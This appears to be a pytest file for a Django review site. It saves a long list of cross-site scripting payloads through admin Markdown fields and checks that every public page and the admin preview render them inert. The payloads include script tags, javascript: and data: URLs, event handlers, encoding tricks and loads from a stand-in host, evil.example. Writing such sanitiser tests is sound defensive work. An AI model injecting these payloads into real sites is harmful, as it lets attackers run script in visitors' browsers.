"""Hostile Markdown saved through the admin's forms renders inert on every page.

Each payload goes into every Markdown field an editor writes (a tool's
description, a take's body, a comparison's intro) through the admin, then the
public pages are read back as a browser would parse them.
"""

import json
import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from comparisons.models import Comparison
from shiporskip.lib.markdown import ALLOWED_TAGS
from tests.admin_forms import submit
from tests.factories import make_category, make_comparison, make_editor, make_persona, make_take
from tests.factories import make_tool as make_benign_tool
from verdicts.models import Tool

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '"><script>alert(1)</script>',
    "</div></article></main><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<template><script>alert(1)</script></template>",
    '<img src=x onerror="alert(1)">',
    '![x](x" onerror="alert(1))',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '<a href="  javascript:alert(1)">spaces</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    "[hex](&#x6A;avascript:alert(1))",
    '<a href="javascript&colon;alert(1)">colon</a>',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">data</a>',
    f"[data](data:text/html;base64,{B64_SCRIPT})",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<a href="https://ok.example" style="position:fixed;inset:0">cover</a>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">ok</a>',
    '<abbr title="&quot; onmouseover=&quot;alert(1)">abbr</abbr>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button formaction="javascript:1">go</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<body onload="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<table><tr><td background="javascript:alert(1)">t</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "&lt;script&gt;alert(1)&lt;/script&gt; and %3Cscript%3Ealert(1)%3C/script%3E",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "poster", "srcdoc"}
NEVER = {"iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style"}
HEAD_ONLY = {"meta", "link", "base", "title"}


class _Tags(HTMLParser):
    """Every element a browser would build, with its attributes and script bodies."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict, bool]] = []
        self.script_text: list[str] = []
        self.json_ld_text: list[str] = []
        self._in_head = False
        self._in_script = False
        self._in_json_ld = False

    def handle_starttag(self, tag, attrs):
        if tag == "head":
            self._in_head = True
        self.elements.append((tag, dict(attrs), self._in_head))
        # JSON-LD is data browsers never execute; it is checked as JSON below.
        self._in_json_ld = tag == "script" and dict(attrs).get("type") == "application/ld+json"
        self._in_script = tag == "script" and not self._in_json_ld

    def handle_endtag(self, tag):
        if tag == "head":
            self._in_head = False
        if tag == "script":
            self._in_script = self._in_json_ld = False

    def handle_data(self, data):
        if self._in_script:
            self.script_text.append(data)
        if self._in_json_ld:
            self.json_ld_text.append(data)


def parse(html: str) -> _Tags:
    tags = _Tags()
    tags.feed(html)
    return tags


def dangers(html: str, body_tags_allowed: set[str]) -> list[str]:
    """Everything on the page that could run script or restyle it."""
    found = []
    tags = parse(html)
    if "".join(tags.script_text).strip():
        found.append("an inline script")
    for block in tags.json_ld_text:
        try:
            json.loads(block)
        except ValueError:
            found.append("JSON-LD that is not JSON (a payload broke out of it)")
        if "<" in block:
            found.append("a raw < inside JSON-LD")
    for tag, attrs, in_head in tags.elements:
        if tag in NEVER:
            found.append(f"<{tag}>")
        is_json_ld = attrs.get("type") == "application/ld+json"
        if (
            tag == "script"
            and not is_json_ld
            and not (attrs.get("src") or "").startswith("/static/")
        ):
            found.append(f"<script> from {attrs.get('src')!r}")
        if tag in HEAD_ONLY and not in_head:
            found.append(f"<{tag}> in the body")
        if not in_head and tag not in body_tags_allowed:
            found.append(f"unexpected <{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"{name}= on <{tag}>")
            if name == "style":
                found.append(f"style= on <{tag}>")
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name in URL_ATTRIBUTES and re.match(r"(javascript|vbscript|data):", squeezed):
                found.append(f"{name}={value!r} on <{tag}>")
    return found


def body_tags(html: str) -> set[str]:
    return {tag for tag, _, in_head in parse(html).elements if not in_head}


@pytest.fixture
def page_tags(client, db):
    """The tags our own templates use on each page, from harmless content."""
    tool, other = make_benign_tool(name="Benign"), make_benign_tool(name="Other")
    persona = make_persona(slug="benign-persona")
    make_take(tool, persona)
    comparison = make_comparison(tool, other, intro="Plain *intro*.")
    urls = ["/", tool.get_absolute_url(), comparison.get_absolute_url(), persona.get_absolute_url()]
    return set().union(*(body_tags(client.get(url).content.decode()) for url in urls))


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_payload_in_every_markdown_field_renders_inert(client, page_tags, payload):
    client.force_login(make_editor())
    persona = make_persona(slug="hostile-persona")
    seed_tool = make_benign_tool(name="Seed tool")
    add_tool = "/admin/verdicts/tool/add/"
    row = _row_of(client, add_tool, persona)
    saved = submit(
        client,
        add_tool,
        {
            "name": "Hostile",
            "category": str(make_category().pk),
            "tagline": "Tagline",
            "description": payload,
            "entry_tier": "free",
            "is_published": "on",
            f"{row}-score": "50",
            f"{row}-call": "ship",
            f"{row}-body": payload,
        },
    )
    assert saved.status_code == 302
    tool = Tool.objects.get(name="Hostile")
    assert (
        submit(
            client,
            "/admin/comparisons/comparison/add/",
            {
                "tool_a": str(tool.pk),
                "tool_b": str(seed_tool.pk),
                "intro": payload,
                "is_published": "on",
            },
        ).status_code
        == 302
    )
    tool.refresh_from_db()
    take = tool.takes.get()
    comparison = Comparison.objects.get(tool_a=tool)
    assert tool.description == take.body == comparison.intro == payload

    reader = Client()
    pages = {
        "tool": reader.get(tool.get_absolute_url()),
        "comparison": reader.get(comparison.get_absolute_url()),
        "reviewer": reader.get(persona.get_absolute_url()),
        "home": reader.get("/"),
    }
    for name, response in pages.items():
        assert response.status_code == 200, name
        html = response.content.decode()
        assert dangers(html, page_tags | ALLOWED_TAGS) == [], name
    # The sanitised renderings really are on the pages being checked.
    for html in (tool.description_html, take.body_html):
        assert html in pages["tool"].content.decode()
        assert html in pages["comparison"].content.decode()
    assert comparison.intro_html in pages["comparison"].content.decode()
    assert take.body_html in pages["reviewer"].content.decode()

    # The admin's live preview returns the same inert HTML.
    preview = json.loads(client.post("/admin/markdown-preview/", {"text": payload}).content)
    assert preview["html"] == take.body_html
    assert dangers(preview["html"], ALLOWED_TAGS) == []


@pytest.mark.parametrize(
    "unsafe",
    [
        "<script>alert(1)</script>",
        '<script src="https://evil.example/x.js"></script>',
        '<p onclick="alert(1)">x</p>',
        '<p style="color:red">x</p>',
        '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        "<iframe></iframe>",
        "<svg></svg>",
        '<meta http-equiv="refresh" content="0">',
        "<marquee>x</marquee>",
    ],
)
def test_the_checker_itself_catches_each_kind_of_danger(unsafe):
    page = f"<html><head><title>t</title></head><body><main>{unsafe}</main></body></html>"
    assert dangers(page, {"html", "body", "main", "p", "a"})
    assert dangers(page.replace(unsafe, "<p>fine</p>"), {"html", "body", "main", "p", "a"}) == []


def _row_of(client, url, persona) -> str:
    """The take row the tool form preselects for this persona."""
    html = client.get(url).content.decode()
    for match in re.finditer(r'<select name="(takes-\d+)-persona"[^>]*>(.*?)</select>', html, re.S):
        if f'<option value="{persona.pk}" selected>' in match.group(2):
            return match.group(1)
    raise AssertionError(f"no take row preselects {persona}")
